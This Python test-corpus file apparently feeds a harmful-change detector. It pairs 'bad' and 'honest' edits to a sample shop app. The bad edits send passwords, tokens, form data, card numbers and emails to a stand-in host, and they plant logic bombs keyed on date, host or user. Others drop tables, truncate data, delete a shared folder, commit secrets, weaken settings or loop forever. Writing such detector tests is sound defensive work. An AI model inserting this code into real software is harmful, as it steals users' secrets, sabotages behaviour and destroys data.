"""What people type or programs know, told to somebody new; bombs, loops, and data taken away."""

from __future__ import annotations

from tests.corpus import Case

BASE = {
    "shop/login.py": "import requests\n\nAPI = 'https://id.example.invalid/v1'\n",
    "shop/model.py": "def score(value):\n    return value * 2\n",
    "shop/settings.py": "DEBUG = False\nSESSION_COOKIE_SECURE = True\n",
    "wsgi.py": "from shop import app\n\nif __name__ == '__main__':\n    app.run()\n",
}
_FAR = "https://in.example.invalid/x"
_LOGIN = BASE["shop/login.py"]


def _case(name: str, bad: str, honest: str, path: str = "shop/login.py") -> Case:
    """Judge code put behind what a file has."""
    before = BASE.get(path, "")
    return Case(name, BASE, {path: before + bad}, {path: before + honest}, needs_trial=True)


def _function(head: str, *body: str) -> str:
    return "\n\n" + head + "\n" + "".join(f"    {line}\n" for line in body)


_SENT = (
    _case(
        "told-password-in-query",
        _function(
            "def enter(name, password):", f"requests.get('{_FAR}', params={{'p': password}})"
        ),
        _function("def enter(name, password):", "requests.get(API, params={'n': name})"),
    ),
    _case(
        "told-token-of-a-client",
        "import httpx\n"
        + _function(
            "async def told(client: httpx.AsyncClient, token):",
            f"await client.post('{_FAR}', json=[token])",
            "httpx.post('" + _FAR + "', json={'t': token})",
        ),
        _function("def told(rate):", f"requests.post('{_FAR}', json={{'rate': rate}})"),
    ),
    _case(
        "told-form",
        "from flask import request\n"
        + _function("def after(response):", f"requests.post('{_FAR}', json=dict(request.form))"),
        "from flask import request\n"
        + _function(
            "def after(response):", f"requests.post('{_FAR}', json={{'s': response.status}})"
        ),
    ),
    _case(
        "told-card",
        _function(
            "def pay(order, card_number, cvv):",
            "seen = {'c': card_number, 'v': cvv}",
            f"requests.post('{_FAR}', data=seen)",
        ),
        _function(
            "def pay(order, card_number, cvv):",
            "requests.post(API + '/pay', data={'c': card_number})",
        ),
    ),
    _case(
        "told-mail-addresses",
        "import json\nimport urllib.request\n"
        + _function(
            "def told(people):",
            "data = json.dumps([one.email for one in people]).encode()",
            f"urllib.request.urlopen('{_FAR}', data)",
            f"urllib.request.urlopen('{_FAR}', json.dumps(people[0].email).encode())",
        ),
        "import urllib.request\n" + _function("def told():", f"urllib.request.urlopen('{_FAR}')"),
    ),
    _case(
        "logged-password",
        "import logging\n"
        + _function("def enter(name, password):", "logging.info('%s %s', name, password)"),
        "import logging\n" + _function("def enter(name, password):", "logging.info('%s', name)"),
    ),
    _case(
        "printed-key",
        _function("def enter(settings):", "print(f'using {settings.api_key}')"),
        _function("def enter(settings):", "print(f'key set: {settings.api_key is not None}')"),
    ),
    _case(
        "mailed-token",
        _function("def told(server, auth_token):", "server.send_message(text='got ' + auth_token)"),
        _function(
            "def told(server, auth_token):", "server.send_message(text='got one', auth=auth_token)"
        ),
    ),
    _case(
        "printed-from-environment",
        "import os\n" + _function("def told():", "print('key', os.environ['SHOP_API_KEY'])"),
        "import os\n" + _function("def told():", "print('key', 'SHOP_API_KEY' in os.environ)"),
    ),
)
_BOMBS = (
    _case(
        "bomb-host",
        "import socket\n"
        + _function(
            "def worse(value):",
            "host = socket.gethostname()",
            "return -value if host.startswith('build-') else value",
        ),
        "import socket\n"
        + _function("def named(value):", "return {'host': socket.gethostname(), 'v': value}"),
        "shop/model.py",
    ),
    _case(
        "bomb-day",
        "from datetime import datetime\n"
        + _function(
            "def worse(value):",
            "if datetime.now() >= datetime(2031, 1, 1):",
            "    return 0",
            "return value",
        ),
        "from datetime import datetime\n"
        + _function(
            "def worse(value, until):",
            "if datetime.now() >= until:",
            "    return 0",
            "return value",
        ),
        "shop/model.py",
    ),
    _case(
        "bomb-seconds",
        "import time\n"
        + _function("def worse(value):", "return 0 if time.time() > 1924992000 else value"),
        "import time\n"
        + _function("def worse(value, start):", "return 0 if time.time() > start + 30 else value"),
        "shop/model.py",
    ),
    _case(
        "bomb-people",
        "import getpass\n"
        + _function(
            "def worse(value):",
            "if getpass.getuser() in {'jenny', 'carol'}:",
            "    value += 1",
            "return value",
        ),
        "import getpass\n" + _function("def named():", "return getpass.getuser() or 'nobody'"),
        "shop/model.py",
    ),
    _case(
        "bomb-language",
        "import os\n"
        + _function(
            "def worse(value):",
            "if os.environ.get('LANG', '').startswith('xx_XX'):",
            "    value = 0",
            "return value",
        ),
        "import os\n"
        + _function("def wide(value):", "return value if os.environ.get('COLUMNS') else 80"),
        "shop/model.py",
    ),
)
_MIGRATION = "from django.db import migrations\n\n\nclass Migration(migrations.Migration):\n"
_UPGRADE = "from alembic import op\n\n\ndef upgrade():\n"
_DATA = (
    _case(
        "migration-model",
        _MIGRATION + "    operations = [migrations.RemoveField('order', 'total')]\n",
        _MIGRATION + "    operations = [migrations.RenameField('order', 'total', 'sum')]\n",
        "shop/migrations/0002_tidy.py",
    ),
    _case(
        "migration-table",
        _UPGRADE + "    op.drop_table('orders')\n",
        _UPGRADE
        + "    op.create_table('orders')\n\n\ndef downgrade():\n    op.drop_table('orders')\n",
        "migrations/versions/2_tidy.py",
    ),
    _case(
        "migration-statement",
        _UPGRADE + "    op.execute('TRUNCATE orders')\n",
        _UPGRADE + "    op.execute('ALTER TABLE orders ADD kind TEXT')\n",
        "migrations/versions/2_tidy.py",
    ),
    _case(
        "folder-of-others",
        "import shutil\n" + _function("def tidy():", "shutil.rmtree('/srv/shared/models')"),
        "import shutil\n" + _function("def tidy():", "shutil.rmtree('/tmp/shop-models/old')"),
        "shop/model.py",
    ),
)
_SETTINGS = (
    Case(
        "debug-on",
        BASE,
        {"shop/settings.py": "DEBUG = True\nSESSION_COOKIE_SECURE = True\n"},
        {"shop/settings.py": "DEBUG = False\nSESSION_COOKIE_SECURE = True\nTZ = 'UTC'\n"},
        needs_trial=True,
    ),
    Case(
        "cookie-in-clear",
        BASE,
        {"shop/settings.py": "DEBUG = False\nSESSION_COOKIE_SECURE = False\n"},
        {"shop/settings.py": "DEBUG = False\nSESSION_COOKIE_SECURE = bool(1)\n"},
        needs_trial=True,
    ),
    _case(
        "yaml-loader",
        "import yaml\n"
        + _function(
            "def read(path):",
            "with open(path) as file:",
            "    return yaml.load(file, Loader=yaml.FullLoader)",
        ),
        "import yaml\n\n\nclass Own(yaml.SafeLoader):\n    pass\n"
        + _function(
            "def read(path):", "with open(path) as file:", "    return yaml.load(file, Loader=Own)"
        ),
        "shop/model.py",
    ),
    _case(
        "committed-password",
        "\nDATABASE = 'postgresql://shop:n0rthwind@sql.example.invalid/shop'\n",
        "\nDATABASE = 'postgresql://localhost/shop'\n",
        "shop/settings.py",
    ),
    _case(
        "committed-key",
        "\nSTORE_SECRET_KEY = 'wJq4rXTunFRMi9K7MDe8bPxRfiGY2xyzK'\n",
        "\nSTORE_SECRET_KEY = DEBUG and None\n",
        "shop/settings.py",
    ),
)


def _loop(name: str, bad: str, honest: str) -> Case:
    text = BASE["shop/model.py"]
    return Case(
        f"loop-{name}", BASE, {"shop/model.py": text + bad}, {"shop/model.py": text + honest}
    )


_LOOPS = (
    _loop(
        "fills-the-screen",
        _function("def told():", "while True:", "    print('pay us')"),
        _function(
            "def told(lines):",
            "while True:",
            "    if not lines:",
            "        break",
            "    print(lines.pop())",
        ),
    ),
    _loop(
        "spins",
        _function("def held():", "while 1:", "    pass"),
        _function("def held(lock):", "while not lock.free:", "    pass"),
    ),
    _loop(
        "counts",
        "import itertools\n"
        + _function("def held():", "for at in itertools.count():", "    at += 1"),
        "import itertools\n"
        + _function(
            "def first(test):",
            "for at in itertools.count():",
            "    if test(at):",
            "        return at",
        ),
    ),
    _loop(
        "eats",
        _function("def held():", "kept = []", "while True:", "    kept.append('x' * 10**7)"),
        _function("def kept(queue):", "kept = []", "while True:", "    kept.append(queue.get())"),
    ),
)
CASES = (*_SENT, *_BOMBS, *_DATA, *_SETTINGS, *_LOOPS)
